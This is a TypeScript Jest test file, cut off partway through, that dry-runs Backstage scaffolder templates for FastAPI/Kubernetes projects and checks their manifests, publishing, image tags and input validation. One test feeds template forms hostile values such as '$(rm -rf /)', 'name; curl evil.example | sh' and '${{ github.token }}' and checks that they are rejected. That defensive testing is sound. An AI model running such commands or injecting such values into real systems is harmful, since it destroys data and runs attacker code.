import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import yaml from 'yaml';
import { detectBlueGreen } from '@golden-path/plugin-rollouts-common';
import { BRIEF_DELIVERABLES, COMMON_FILES } from './deliverables';
import { quotaOverruns } from './quotaFit';
import { dryRunInputs, imageTagProblems } from './releaseChecks';
import {
  discoverTemplateCases,
  LOCAL_GITEA_HOST,
  startScaffolder,
  TemplateCase,
  writeFiles,
} from './scaffolderDryRun';

// Set by scripts/test-templates.sh: the later checks (schema, policy, pytest, workflow
// lint, cluster apply) run on the files written there.
const OUTPUT_DIR = process.env.TEMPLATE_OUTPUT_DIR;

const cases = discoverTemplateCases();
const templateNames = [...new Set(cases.map(c => c.template))];

/** The Git server an example publishes to, from its repoUrl's host. */
const hostOf = (testCase: TemplateCase) =>
  String(testCase.values.repoUrl).split('?')[0];
/** The publish action that runs for an example: exactly one of the two. */
const publishActionOf = (testCase: TemplateCase) =>
  hostOf(testCase) === 'github.com' ? 'publish:github' : 'publish:gitea';
/** A template's first example that publishes to GitHub (typical.yaml publishes locally). */
const githubExample = (template: string) =>
  cases.find(c => c.template === template && hostOf(c) === 'github.com')!;
const typicalExample = (template: string) =>
  cases.find(c => c.template === template && c.example === 'typical')!;

jest.setTimeout(120_000);

let scaffolder: Awaited<ReturnType<typeof startScaffolder>>;
beforeAll(async () => {
  scaffolder = await startScaffolder();
});
afterAll(async () => {
  await scaffolder?.stop();
});

/**
 * The errors and warnings of every document of a YAML file. The library does not throw
 * on malformed input: it parses what it can and records the rest on each document.
 */
function yamlProblems(content: Buffer): string[] {
  return yaml
    .parseAllDocuments(content.toString('utf8'))
    .flatMap(doc => [...doc.errors, ...doc.warnings])
    .map(problem => problem.message);
}

function objectsOf(content: Buffer): any[] {
  const problems = yamlProblems(content);
  if (problems.length > 0) {
    throw new Error(`Malformed YAML: ${problems.join('; ')}`);
  }
  return yaml
    .parseAllDocuments(content.toString('utf8'))
    .map(doc => doc.toJS())
    .filter(Boolean);
}

it('finds every deployment template, each with examples', () => {
  expect(templateNames.sort()).toEqual(Object.keys(BRIEF_DELIVERABLES).sort());
});

describe.each(cases.map(c => [`${c.template} / ${c.example}`, c] as const))(
  'template %s',
  (_label, testCase: TemplateCase) => {
    let files: Map<string, Buffer>;
    let executables: Set<string>;
    let dryRunBody: any;

    beforeAll(async () => {
      const result = await scaffolder.dryRun(
        testCase.templateEntity,
        testCase.values,
      );
      if (result.status !== 200) {
        throw new Error(
          `dry-run failed with ${result.status}: ${JSON.stringify(
            result.body,
          )}`,
        );
      }
      files = result.files;
      executables = result.executables;
      dryRunBody = result.body;
      if (OUTPUT_DIR) {
        writeFiles(
          path.join(OUTPUT_DIR, testCase.template, testCase.example),
          files,
          executables,
        );
      }
    });

    it('generates every deliverable of the brief and the common files', () => {
      const expected = [
        ...COMMON_FILES,
        ...BRIEF_DELIVERABLES[testCase.template],
      ];
      const missing = expected.filter(file => !files.has(file));
      expect(missing).toEqual([]);
    });

    it('keeps the scripts the docs tell users to run executable', () => {
      const scripts = [...files.keys()].filter(f => f.endsWith('.sh'));
      expect(scripts.filter(f => !executables.has(f))).toEqual([]);
    });

    it('generates a Dockerfile, tests and a GitHub Actions workflow', () => {
      const names = [...files.keys()];
      expect(names.some(f => /(^|\/)Dockerfile$/.test(f))).toBe(true);
      expect(names.some(f => /(^|\/)tests\/test_.*\.py$/.test(f))).toBe(true);
      expect(names.some(f => /^\.github\/workflows\/.+\.ya?ml$/.test(f))).toBe(
        true,
      );
    });

    it('renders every YAML file to valid YAML with no template syntax left', () => {
      const yamlFiles = [...files].filter(([file]) => /\.ya?ml$/.test(file));
      const malformed = yamlFiles.flatMap(([file, content]) =>
        yamlProblems(content).map(problem => `${file}: ${problem}`),
      );
      expect(malformed).toEqual([]);
      // No unrendered reference to the form's values may remain. The hostile examples
      // put literal ${{ }} text into values: that text, wherever it was rendered
      // (raw or JSON-escaped), is removed before looking.
      const literalInputs = Object.values(testCase.values)
        .filter((v): v is string => typeof v === 'string')
        .flatMap(v => [v, JSON.stringify(v).slice(1, -1)]);
      const withoutInputs = (text: string) =>
        literalInputs.reduce(
          (rest, literal) => rest.split(literal).join(''),
          text,
        );
      const leftovers = yamlFiles
        .filter(([file]) => !file.startsWith('.github/'))
        .filter(([, content]) =>
          /\$\{\{\s*(values|parameters)\./.test(
            withoutInputs(content.toString('utf8')),
          ),
        )
        .map(([file]) => file);
      expect(leftovers).toEqual([]);
    });

    it('deploys from k8s/ exactly the image tags its CI publishes (VERSION)', () => {
      expect(imageTagProblems(files)).toEqual([]);
    });

    it('publishes the repository with the visibility chosen in the form, with the one publish step of its host', () => {
      const action = publishActionOf(testCase);
      const other =
        action === 'publish:github' ? 'publish:gitea' : 'publish:github';
      const [publish] = dryRunInputs(dryRunBody, action);
      expect(publish?.repoUrl).toBe(testCase.values.repoUrl);
      expect(publish?.repoVisibility).toBe(testCase.values.repoVisibility);
      expect(['private', 'internal', 'public']).toContain(
        publish?.repoVisibility,
      );
      expect(dryRunInputs(dryRunBody, other)).toEqual([]);
    });

    it('registers a catalog entity that the Kubernetes tab can find', () => {
      const [entity] = objectsOf(files.get('catalog-info.yaml')!);
      const annotations = entity.metadata.annotations ?? {};
      expect(entity.metadata.name).toBe(testCase.values.name);
      expect(annotations['backstage.io/kubernetes-id']).toBe(
        testCase.values.name,
      );
      // The GitOps service runs in one namespace per environment: the tabs find every
      // one by the id, and a namespace annotation would hide all but one.
      expect({
        template: testCase.template,
        namespaceAnnotation: Boolean(
          annotations['backstage.io/kubernetes-namespace'],
        ),
      }).toEqual({
        template: testCase.template,
        namespaceAnnotation: testCase.template !== 'fastapi-gitops',
      });
      expect(annotations['backstage.io/techdocs-ref']).toBe('dir:.');
    });
  },
);

describe('template specifics from the brief', () => {
  const render = async (template: string) => {
    const testCase = cases.find(
      c => c.template === template && c.example === 'typical',
    )!;
    const result = await scaffolder.dryRun(
      testCase.templateEntity,
      testCase.values,
    );
    expect(result.status).toBe(200);
    const kinds = (file: string) => objectsOf(result.files.get(file)!);
    return { files: result.files, kinds };
  };

  /** The task log of an example's dry run (which must succeed), one message per line. */
  const dryRunLog = async (template: string, example: string) => {
    const testCase = cases.find(
      c => c.template === template && c.example === example,
    )!;
    const result = await scaffolder.dryRun(
      testCase.templateEntity,
      testCase.values,
    );
    expect(result.status).toBe(200);
    return result.body.log.map((e: any) => String(e.body.message)) as string[];
  };

  it('static web, "Deploy with Flux": the dry run builds nothing, shows the Flux objects for overlays/local in the namespace, waits for nothing', async () => {
    const log = await dryRunLog('fastapi-static-web', 'deploy-with-flux');
    // No local cluster in this test backend: said, not built, not an error.
    expect(log).toContainEqual(
      expect.stringContaining(
        "Dry run: golden-path:local:build-images builds images for the portal's local cluster only, and a real run would stop here",
      ),
    );
    const plan = log.find(line => line.includes('Dry run: would register '))!;
    expect(plan).toContain(
      '(branch main, ./overlays/local) into namespace flux-web',
    );
    const objects = JSON.parse(plan.slice(plan.indexOf('\n[')));
    expect(objects.map((o: any) => [o.kind, o.metadata.name])).toEqual([
      ['GitRepository', 'flux-web'],
      ['Kustomization', 'flux-web'],
    ]);
    expect(objects[1].spec).toMatchObject({
      path: './overlays/local',
      targetNamespace: 'flux-web',
      commonMetadata: {
        annotations: {
          'rollouts.backstage.io/entity-ref': 'component:default/flux-web',
        },
      },
    });
    expect(log).toContainEqual(
      expect.stringContaining(
        'Dry run: would wait up to 300 s for every Deployment in namespace flux-web to roll out',
      ),
    );
    // Without the checkbox (the typical example) none of the three steps runs.
    const typical = cases.find(
      c => c.template === 'fastapi-static-web' && c.example === 'typical',
    )!;
    expect(typical.values.deployWithFlux).toBe(false);
    const without = await scaffolder.dryRun(
      typical.templateEntity,
      typical.values,
    );
    const ran = without.body.log
      .map((e: any) => String(e.body.message))
      .filter((line: string) =>
        /Running golden-path:(local:build-images|flux:register|kubernetes:wait)/.test(
          line,
        ),
      );
    expect(ran).toEqual([]);
  });

  it('gitops, "Run dev, staging and prod on the local cluster": the dry run builds nothing and shows one Flux registration per environment, each overlay into its own namespace', async () => {
    const testCase = cases.find(
      c => c.template === 'fastapi-gitops' && c.example === 'typical',
    )!;
    expect(testCase.values.deployWithFlux).toBe(true);
    const log = await dryRunLog('fastapi-gitops', 'typical');
    expect(log).toContainEqual(
      expect.stringContaining(
        "Dry run: golden-path:local:build-images builds images for the portal's local cluster only",
      ),
    );
    // The filter below finds these lines when the steps run.
    expect(
      log.filter(line => /Running golden-path:flux:register/.test(line)),
    ).toHaveLength(3);
    const plans = log.filter(line => line.includes('Dry run: would register '));
    expect(
      plans.map(plan => {
        const objects = JSON.parse(plan.slice(plan.indexOf('\n[')));
        return objects.map((o: any) => [
          o.kind,
          o.metadata.name,
          o.spec.path ?? '',
          o.spec.targetNamespace ?? '',
          o.spec.timeout,
        ]);
      }),
    ).toEqual(
      ['dev', 'staging', 'prod'].map(env => [
        ['GitRepository', `hello-gitops-${env}`, '', '', '60s'],
        [
          'Kustomization',
          `hello-gitops-${env}`,
          `./overlays/${env}`,
          `hello-gitops-${env}`,
          '90s',
        ],
      ]),
    );
    // On github.com the workflow and the user's cluster deploy: no local step runs.
    const github = await scaffolder.dryRun(testCase.templateEntity, {
      ...testCase.values,
      repoUrl: 'github.com?owner=acme&repo=hello-gitops',
    });
    expect(github.status).toBe(200);
    expect(
      github.body.log
        .map((e: any) => String(e.body.message))
        .filter((line: string) =>
          /Running golden-path:(local:build-images|flux:register)/.test(line),
        ),
    ).toEqual([]);
  });

  it('static web: 3 replicas, a LoadBalancer and content from a ConfigMap', async () => {
    const { kinds } = await render('fastapi-static-web');
    const [deployment] = kinds('k8s/deployment.yaml');
    const [service] = kinds('k8s/service.yaml');
    const [configMap] = kinds('k8s/configmap.yaml');
    // The brief's 3 replicas are the form's default; "typical" keeps the defaults.
    expect(deployment.spec.replicas).toBe(3);
    expect(service.spec.type).toBe('LoadBalancer');
    expect(configMap.kind).toBe('ConfigMap');
    const volumes = deployment.spec.template.spec.volumes ?? [];
    const envFrom = deployment.spec.template.spec.containers.flatMap(
      (c: any) => c.envFrom ?? [],
    );
    const usesConfigMap =
      volumes.some((v: any) => v.configMap?.name === configMap.metadata.name) ||
      envFrom.some(
        (e: any) => e.configMapRef?.name === configMap.metadata.name,
      );
    expect(usesConfigMap).toBe(true);
  });

  it('postgres: Recreate strategy on a single-writer volume, internal Service, no password in Git', async () => {
    const { kinds } = await render('fastapi-postgres');
    const [deployment] = kinds('k8s/postgres-deployment.yaml');
    const [service] = kinds('k8s/postgres-service.yaml');
    const [pvc] = kinds('k8s/postgres-pvc.yaml');
    expect(deployment.spec.strategy.type).toBe('Recreate');
    expect(deployment.spec.template.spec.containers[0].image).toMatch(
      /^postgres:\d+(\.\d+)?[\w.-]*(@sha256:[a-f0-9]{64})?$/,
    );
    expect(service.spec.type ?? 'ClusterIP').toBe('ClusterIP');
    expect(pvc.spec.accessModes).toEqual(['ReadWriteOnce']);
    const secrets = kinds('k8s/postgres-secret.yaml').filter(
      (o: any) => o.kind === 'Secret',
    );
    const committedPasswords = secrets.flatMap((secret: any) =>
      Object.entries({ ...secret.data, ...secret.stringData })
        .filter(([key]) => /password/i.test(key))
        .map(([, value]) => String(value)),
    );
    // Only a placeholder may be committed; the real one is made at deploy time.
    const realLooking = committedPasswords.filter(
      value =>
        value.trim() !== '' &&
        !/change|placeholder|replace|generated/i.test(value),
    );
    expect(realLooking).toEqual([]);
    // Applied by hand (`kubectl apply -f`, no kustomization), it must land next to the
    // database, not in whatever namespace the user's context has.
    const [kustomization] = kinds('k8s/kustomization.yaml');
    for (const secret of secrets) {
      expect(secret.metadata.namespace).toBe(kustomization.namespace);
    }
  });

  it('multi-tier: backend only inside the cluster, frontend the only external entry', async () => {
    const { files, kinds } = await render('fastapi-multi-tier');
    const services = [...files.keys()]
      .filter(f => f.startsWith('k8s/'))
      .flatMap(f => kinds(f))
      .filter((o: any) => o.kind === 'Service');
    const external = services.filter((s: any) =>
      ['LoadBalancer', 'NodePort'].includes(s.spec.type),
    );
    expect(external.map((s: any) => s.metadata.name)).toEqual(
      kinds('k8s/frontend-service.yaml').map((s: any) => s.metadata.name),
    );
    const [backendService] = kinds('k8s/backend-service.yaml');
    expect(backendService.spec.type ?? 'ClusterIP').toBe('ClusterIP');
    const docs = [...files.entries()]
      .filter(([f]) => f.startsWith('docs/'))
      .map(([, c]) => c.toString('utf8'))
      .join('\n');
    expect(docs).toMatch(/```mermaid/);
  });

  it('health monitoring: liveness, readiness and startup probes', async () => {
    const { kinds } = await render('fastapi-health-monitoring');
    const [deployment] = kinds('k8s/fastapi-app-deployment.yaml');
    const [container] = deployment.spec.template.spec.containers;
    expect(container.livenessProbe.httpGet.path).toBe('/health');
    expect(container.readinessProbe.httpGet.path).toBe('/ready');
    expect(container.startupProbe).toBeDefined();
  });

  it('resource quota: a namespace, a quota that both apps fit during a rollout, and not a third memory-app pod', async () => {
    const { files, kinds } = await render('fastapi-resource-quota');
    const [namespace] = kinds('k8s/namespace.yaml');
    const [quota] = kinds('k8s/resource-quota.yaml');
    const [kustomization] = kinds('k8s/kustomization.yaml');
    expect(namespace.kind).toBe('Namespace');
    expect(quota.kind).toBe('ResourceQuota');
    // The quota lands in the namespace the kustomization applies everything to.
    expect(quota.metadata.namespace ?? kustomization.namespace).toBe(
      namespace.metadata.name,
    );
    const objects = [...files.keys()]
      .filter(f => /^k8s\/.+\.ya?ml$/.test(f))
      .flatMap(f => kinds(f));
    const deployments = objects.filter((o: any) => o.kind === 'Deployment');
    const limitRanges = objects.filter((o: any) => o.kind === 'LimitRange');
    expect(deployments.map((d: any) => d.metadata.name).sort()).toEqual([
      'quota-lab-memory-app',
      'quota-lab-second-app',
    ]);
    expect(quotaOverruns(quota, deployments, limitRanges)).toEqual([]);
    // docs/resources.md: scaling the memory app to 3 is refused on limits.memory.
    const scaledUp = deployments.map((d: any) =>
      d.metadata.name.endsWith('-memory-app')
        ? { ...d, spec: { ...d.spec, replicas: d.spec.replicas + 1 } }
        : d,
    );
    expect(quotaOverruns(quota, scaledUp, limitRanges)).toEqual([
      expect.stringMatching(/^limits\.memory: /),
    ]);
  });
});

describe('blue-green', () => {
  const slotOf = (o: any) => o.spec.selector['app.kubernetes.io/slot'];

  it.each([
    ['typical', 'blue', 'green'],
    ['green-live', 'green', 'blue'],
  ])(
    '%s: the live Service selects %s, the preview Service %s, each slot one Deployment the rollouts plugin detects',
    async (example, live, idle) => {
      const testCase = cases.find(
        c => c.template === 'fastapi-blue-green' && c.example === example,
      )!;
      const result = await scaffolder.dryRun(
        testCase.templateEntity,
        testCase.values,
      );
      expect(result.status).toBe(200);
      const kinds = (file: string) => objectsOf(result.files.get(file)!);
      const [service] = kinds('k8s/service.yaml');
      const [preview] = kinds('k8s/preview-service.yaml');
      const [blue] = kinds('k8s/blue-deployment.yaml');
      const [green] = kinds('k8s/green-deployment.yaml');
      expect(slotOf(service)).toBe(live);
      expect(slotOf(preview)).toBe(idle);
      expect(
        preview.metadata.annotations['rollouts.backstage.io/preview-of'],
      ).toBe(service.metadata.name);
      // DEFAULT_SLOT_LABEL of plugins/rollouts-common/src/blueGreen.ts.
      const pairs = detectBlueGreen({
        services: [service],
        deployments: [blue, green].map(d => ({
          ...d,
          metadata: { ...d.metadata, namespace: '' },
        })),
      });
      expect(pairs).toHaveLength(1);
      expect(pairs[0].liveSlot).toBe(live);
      expect(pairs[0].slots.map(s => [s.slot, s.deployment])).toEqual([
        ['blue', blue.metadata.name],
        ['green', green.metadata.name],
      ]);
      // Every object the plugin may patch names its entity and carries its id.
      for (const obj of [service, preview, blue, green]) {
        expect(
          obj.metadata.annotations['rollouts.backstage.io/entity-ref'],
        ).toBe(`component:default/${testCase.values.name}`);
        expect(obj.metadata.labels['backstage.io/kubernetes-id']).toBe(
          testCase.values.name,
        );
      }
      // VERSION is the newest version a slot runs.
      expect(result.files.get('VERSION')!.toString('utf8').trim()).toBe(
        '2.0.0',
      );
      expect(
        [blue, green].map(d => d.spec.template.spec.containers[0].image),
      ).toEqual([
        expect.stringMatching(/:1\.0\.0$/),
        expect.stringMatching(/:2\.0\.0$/),
      ]);
    },
  );
});

describe('hostile form values', () => {
  const hostileNames = [
    'a: b\n- x',
    '${{ github.token }}',
    '$(rm -rf /)',
    'name; curl evil.example | sh',
    `x${'a'.repeat(80)}`,
    'UPPER',
    '-leading-dash',
    '',
  ];

  it.each(templateNames)(
    '%s rejects names that are not short DNS labels, saying what to fix',
    async template => {
      const testCase = cases.find(c => c.template === template)!;
      for (const name of hostileNames) {
        const result = await scaffolder.dryRun(testCase.templateEntity, {
          ...testCase.values,
          name,
        });
        expect({ name, status: result.status }).toEqual({ name, status: 400 });
        const messages = JSON.stringify(result.body.errors);
        expect(messages).toMatch(/name/);
      }
    },
  );

  // Fields with a default on the Create page, per template.
  const defaultedFields = cases
    .filter((c, i) => cases.findIndex(o => o.template === c.template) === i)
    .flatMap(c =>
      [c.templateEntity.spec.parameters].flat().flatMap((step: any) =>
        Object.entries<any>(step.properties ?? {})
          .filter(([, field]) => 'default' in field)
          .map(([key]) => [c.template, key] as const),
      ),
    );

  it('finds the fields the Create page fills in from defaults', () => {
    expect(defaultedFields.length).toBeGreaterThanOrEqual(8);
  });

  it.each(defaultedFields)(
    '%s: an API call without %s is a 400 naming it, not a broken render',
    async (template, key) => {
      const testCase = cases.find(c => c.template === template)!;
      const values = { ...testCase.values };
      delete values[key];
      const result = await scaffolder.dryRun(testCase.templateEntity, values);
      expect(result.status).toBe(400);
      expect(JSON.stringify(result.body.errors)).toContain(key);
    },
  );

  it.each(templateNames)(
    '%s renders a description full of YAML, shell and template syntax inertly, or rejects it',
    async template => {
      const testCase = cases.find(c => c.template === template)!;
      const description = `it's "quoted": {a: [b]} # $(id) \`id\` && echo ok`;
      const result = await scaffolder.dryRun(testCase.templateEntity, {
        ...testCase.values,
        description,
      });
      const outcome =
        result.status === 400
          ? {
              rejected: true,
              saysWhy: /description/.test(JSON.stringify(result.body.errors)),
            }
          : {
              rejected: false,
              status: result.status,
              rendered: objectsOf(result.files.get('catalog-info.yaml')!)[0]
                ?.metadata?.description,
            };
      expect([
        { rejected: true, saysWhy: true },
        { rejected: false, status: 200, rendered: description },
      ]).toContainEqual(outcome);
    },
  );
});

describe('image tags and repository visibility', () => {
  it.each(templateNames)(
    '%s: the form offers private, internal or public, private by default, and publishes with it',
    template => {
      const entity = typicalExample(template).templateEntity;
      const field = [entity.spec.parameters]
        .flat()
        .map((page: any) => page.properties?.repoVisibility)
        .find(Boolean);
      expect(field.default).toBe('private');
      expect(field.enum).toEqual(['private', 'internal', 'public']);
      const publishSteps = entity.spec.steps.filter((step: any) =>
        ['publish:github', 'publish:gitea'].includes(step.action),
      );
      expect(publishSteps).toHaveLength(2);
      for (const publish of publishSteps) {
        expect(publish.input.repoVisibility).toBe(
          '${{ parameters.repoVisibility }}',
        );
      }
    },
  );

  it('the examples exercise every visibility', () => {
    const chosen = new Set(cases.map(c => c.values.repoVisibility));
    expect([...chosen].sort()).toEqual(['internal', 'private', 'public']);
  });

  // Each bad variant of a good render must be caught by the check the tests above rely on.
  const mutations: Array<[string, string, (text: string) => string, RegExp]> = [
    ['VERSION moved on', 'VERSION', () => '9.9.9\n', /CI publishes 9\.9\.9/],
    ['VERSION not X.Y.Z', 'VERSION', () => 'v1\n', /VERSION must be X\.Y\.Z/],
    [
      'k8s/ pins another tag',
      'k8s/kustomization.yaml',
      text => text.replace(/newTag: .*/g, 'newTag: "sha-abc"'),
      /deploys .*:sha-abc/,
    ],
    [
      'CI pushes latest',
      '.github/workflows/ci.yaml',
      text => text.replace('type=sha,format=long', 'type=raw,value=latest'),
      /the image job tags/,
    ],
    [
      'the step summary names another tag than the one pushed',
      '.github/workflows/ci.yaml',
      text => text.split('$IMAGE:$COMMIT_TAG').join('$IMAGE:sha-$GITHUB_SHA'),
      /names sha-\$GITHUB_SHA, not the commit tag it pushed/,
    ],
    [
      'CI versions from somewhere else',
      '.github/workflows/ci.yaml',
      text => text.split('< VERSION').join('< pyproject.toml'),
      /does not read its version from VERSION/,
    ],
  ];

  it.each(mutations)(
    'the image tag check catches: %s',
    async (_label, file, mutate, expected) => {
      const testCase = githubExample('fastapi-multi-tier');
      const result = await scaffolder.dryRun(
        testCase.templateEntity,
        testCase.values,
      );
      expect(imageTagProblems(result.files)).toEqual([]);
      const bad = new Map(result.files);
      bad.set(file, Buffer.from(mutate(bad.get(file)!.toString('utf8'))));
      expect(imageTagProblems(bad).join('\n')).toMatch(expected);
    },
  );

  it('the image tag check catches, on the local Git server, an image job and a k8s/ tag other than VERSION', async () => {
    const testCase = typicalExample('fastapi-multi-tier');
    const result = await scaffolder.dryRun(
      testCase.templateEntity,
      testCase.values,
    );
    expect(imageTagProblems(result.files)).toEqual([]);
    const workflow = yaml.parse(
      result.files.get('.github/workflows/ci.yaml')!.toString('utf8'),
    );
    const withImageJob = new Map(result.files);
    withImageJob.set(
      '.github/workflows/ci.yaml',
      Buffer.from(
        yaml.stringify({ ...workflow, jobs: { ...workflow.jobs, image: {} } }),
      ),
    );
    expect(imageTagProblems(withImageJob).join('\n')).toMatch(
      /local Git server has an image job, but there is no registry/,
    );
    const moved = new Map(result.files);
    moved.set('VERSION', Buffer.from('9.9.9\n'));
    expect(imageTagProblems(moved).join('\n')).toMatch(
      /k8s\/ deploys localhost\/shop-backend:0\.1\.0, CI publishes 9\.9\.9/,
    );
  });

  it('reads the publish input from a dry-run log, and none from a log without one', () => {
    const message =
      '\u001b[32minfo\u001b[39m: Running publish:github in dry-run mode with inputs (secrets redacted): {"repoVisibility": "internal"}';
    expect(
      dryRunInputs({ log: [{ body: { message } }] }, 'publish:github'),
    ).toEqual([{ repoVisibility: 'internal' }]);
    expect(dryRunInputs({ log: [] }, 'publish:github')).toEqual([]);
    expect(dryRunInputs({}, 'publish:github')).toEqual([]);
  });

  // The image job's "Is VERSION already published?" step, run as written in the generated
  // workflow against a fake `docker buildx imagetools inspect` that answers from a table.
  const FAKE_DOCKER = `#!/bin/sh
# docker buildx imagetools inspect --format FORMAT REF
ref="$6"
if [ -n "$FAKE_REGISTRY_ERROR" ]; then echo "ERROR: $FAKE_REGISTRY_ERROR" >&2; exit 1; fi
digest="$(awk -v r="$ref" '$1 == r { print $2 }' "$FAKE_REGISTRY")"
if [ -z "$digest" ]; then echo "ERROR: $ref: not found" >&2; exit 1; fi
echo "$digest"
`;
  const IMAGE = 'ghcr.io/acme/shop-backend';
  const COMMIT = 'c0ffee'.padEnd(40, '0');
  const DIGEST_A = `sha256:${'a'.repeat(64)}`;
  const DIGEST_B = `sha256:${'b'.repeat(64)}`;
  const releaseCases: Array<[string, string, string, Record<string, string>]> =
    [
      ['a new version', '', 'new', {}],
      [
        'a re-run of the commit that published it',
        `${IMAGE}:0.1.0 ${DIGEST_A}\n${IMAGE}:sha-${COMMIT} ${DIGEST_A}\n`,
        'done',
        {},
      ],
      [
        'a version published from another commit',
        `${IMAGE}:0.1.0 ${DIGEST_A}\n${IMAGE}:sha-${COMMIT} ${DIGEST_B}\n`,
        'taken',
        {},
      ],
      [
        'a version published, this commit not yet',
        `${IMAGE}:0.1.0 ${DIGEST_A}\n`,
        'taken',
        {},
      ],
      [
        'a registry answering with no digest',
        `${IMAGE}:0.1.0 <html>\n`,
        'error',
        {},
      ],
      [
        'a registry that cannot be read',
        '',
        'error',
        { FAKE_REGISTRY_ERROR: 'denied: permission_denied' },
      ],
    ];

  it.each(releaseCases)(
    'the image job decides the tags for %s',
    async (_label, registry, expected, extraEnv) => {
      const testCase = githubExample('fastapi-multi-tier');
      const result = await scaffolder.dryRun(
        testCase.templateEntity,
        testCase.values,
      );
      const workflow = yaml.parse(
        result.files.get('.github/workflows/ci.yaml')!.toString('utf8'),
      );
      const step = workflow.jobs.image.steps.find(
        (s: any) => s.id === 'release',
      );
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'release-step-'));
      try {
        fs.writeFileSync(path.join(dir, 'VERSION'), '0.1.0\n');
        fs.writeFileSync(path.join(dir, 'registry'), registry);
        fs.writeFileSync(path.join(dir, 'output'), '');
        fs.mkdirSync(path.join(dir, 'bin'));
        fs.writeFileSync(path.join(dir, 'bin', 'docker'), FAKE_DOCKER, {
          mode: 0o755,
        });
        const run = spawnSync('bash', ['-e', '-c', step.run], {
          cwd: dir,
          encoding: 'utf8',
          env: {
            ...process.env,
            PATH: `${path.join(dir, 'bin')}:${process.env.PATH}`,
            FAKE_REGISTRY: path.join(dir, 'registry'),
            GITHUB_OUTPUT: path.join(dir, 'output'),
            IMAGE,
            COMMIT,
            ...extraEnv,
          },
        });
        const output = fs.readFileSync(path.join(dir, 'output'), 'utf8');
        const outcome = {
          exitCode: run.status,
          state: /^state=(.*)$/m.exec(output)?.[1] ?? null,
          version: /^version=(.*)$/m.exec(output)?.[1] ?? null,
          saysWhy: run.stdout.includes('::error::cannot tell whether'),
          stderr: run.stderr,
        };
        expect(outcome).toEqual(
          expected === 'error'
            ? {
                exitCode: 1,
                state: null,
                version: null,
                saysWhy: true,
                stderr: '',
              }
            : {
                exitCode: 0,
                state: expected,
                version: '0.1.0',
                saysWhy: false,
                stderr: '',
              },
        );
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    },
  );
});

describe('publishing: checked first, to the local Git server or GitHub, rolled back after a failure', () => {
  const PREFLIGHT = 'golden-path:publish:preflight';
  const ROLLBACK = 'golden-path:publish:rollback';
  const PUBLISH = ['publish:gitea', 'publish:github'];
  const stepsOf = (template: string): any[] =>
    typicalExample(template).templateEntity.spec.steps;
  const publishSteps = (template: string) =>
    stepsOf(template).filter(step => PUBLISH.includes(step.action));

  it.each(templateNames)(
    '%s: one definition, two publish steps: Gitea unless the host is github.com, GitHub for github.com',
    template => {
      const [gitea, github] = publishSteps(template);
      expect([gitea.action, github.action]).toEqual(PUBLISH);
      expect(gitea.if).toBe(
        "${{ (parameters.repoUrl | parseRepoUrl).host != 'github.com' }}",
      );
      expect(github.if).toBe(
        "${{ (parameters.repoUrl | parseRepoUrl).host == 'github.com' }}",
      );
      for (const key of ['repoUrl', 'description', 'defaultBranch']) {
        expect(gitea.input[key]).toEqual(github.input[key]);
      }
      // Whichever ran: the skipped step has no output.
      const register = stepsOf(template).find(
        step => step.action === 'catalog:register',
      );
      expect(register.input).toEqual({
        catalogInfoUrl: `\${{ (steps['${gitea.id}'].output.repoContentsUrl ~ 'catalog-info.yaml') if steps['${gitea.id}'] else (steps['${github.id}'].output.repoContentsUrl ~ '/catalog-info.yaml') }}`,
      });
      const links = typicalExample(template).templateEntity.spec.output.links;
      expect(links[0].url).toBe(
        `\${{ steps['${gitea.id}'].output.repoContentsUrl or steps['${github.id}'].output.remoteUrl }}`,
      );
    },
  );

  it.each(templateNames)(
    '%s: the form offers the local Git server first (the default) and github.com, with one pattern for both',
    template => {
      const field = [typicalExample(template).templateEntity.spec.parameters]
        .flat()
        .map((page: any) => page.properties?.repoUrl)
        .find(Boolean);
      expect(field['ui:options'].allowedHosts).toEqual([
        LOCAL_GITEA_HOST,
        'github.com',
      ]);
      const pattern = new RegExp(field.pattern);
      for (const accepted of [
        `${LOCAL_GITEA_HOST}?owner=golden-path&repo=hello-web`,
        'github.com?owner=Acme-Org&repo=hello.web_2',
        'github.com?repo=x&owner=acme',
      ]) {
        expect({ accepted, ok: pattern.test(accepted) }).toEqual({
          accepted,
          ok: true,
        });
      }
      for (const refused of [
        'gitlab.com?owner=acme&repo=x',
        `${LOCAL_GITEA_HOST}?owner=golden-path`,
        `127.0.0.1:3301?owner=golden-path&repo=x`,
        'github.com?owner=-acme&repo=x',
        'github.com?owner=acme&repo=a/b',
      ]) {
        expect({ refused, ok: pattern.test(refused) }).toEqual({
          refused,
          ok: false,
        });
      }
      expect(field.description).toMatch(
        /127\.0\.0\.1:3300 \(the default\).*golden-path.*github\.com/,
      );
    },
  );

  it.each(templateNames)(
    '%s: the first step is the preflight, on the same repository and visibility as both publish steps',
    template => {
      const steps = stepsOf(template);
      expect(steps[0].action).toBe(PREFLIGHT);
      expect(steps.filter(step => step.action === PREFLIGHT)).toHaveLength(1);
      expect(steps[0].if).toBeUndefined();
      for (const publish of publishSteps(template)) {
        expect(steps[0].input).toEqual({
          repoUrl: publish.input.repoUrl,
          repoVisibility: publish.input.repoVisibility,
          ...(publish.input.token && { token: publish.input.token }),
        });
      }
    },
  );

  it.each(templateNames)(
    '%s: the last step rolls back only after a failure, on the same repository, after the preflight time',
    template => {
      const steps = stepsOf(template);
      const [gitea, github] = publishSteps(template);
      const last = steps[steps.length - 1];
      expect(last).toEqual({
        id: 'rollback',
        name: expect.any(String),
        if: '${{ failure() }}',
        action: ROLLBACK,
        input: {
          repoUrl: github.input.repoUrl,
          createdAfter: `\${{ steps['${steps[0].id}'].output.checkedAt }}`,
          ...(github.input.token && { token: github.input.token }),
        },
      });
      expect(steps.indexOf(gitea)).toBeLessThan(steps.length - 1);
      expect(steps.indexOf(github)).toBeLessThan(steps.length - 1);
    },
  );

  const logOf = (body: any): string[] =>
    body.log.map((e: any) => String(e.body.message));

  it.each(templateNames)(
    '%s: the typical example publishes to the local Git server; its dry run writes nothing to Git',
    async template => {
      const testCase = typicalExample(template);
      expect(hostOf(testCase)).toBe(LOCAL_GITEA_HOST);
      const result = await scaffolder.dryRun(
        testCase.templateEntity,
        testCase.values,
      );
      expect(result.status).toBe(200);
      const [preflight] = dryRunInputs(result.body, PREFLIGHT);
      const [publish] = dryRunInputs(result.body, 'publish:gitea');
      expect(preflight).toEqual({
        repoUrl: publish.repoUrl,
        repoVisibility: publish.repoVisibility,
      });
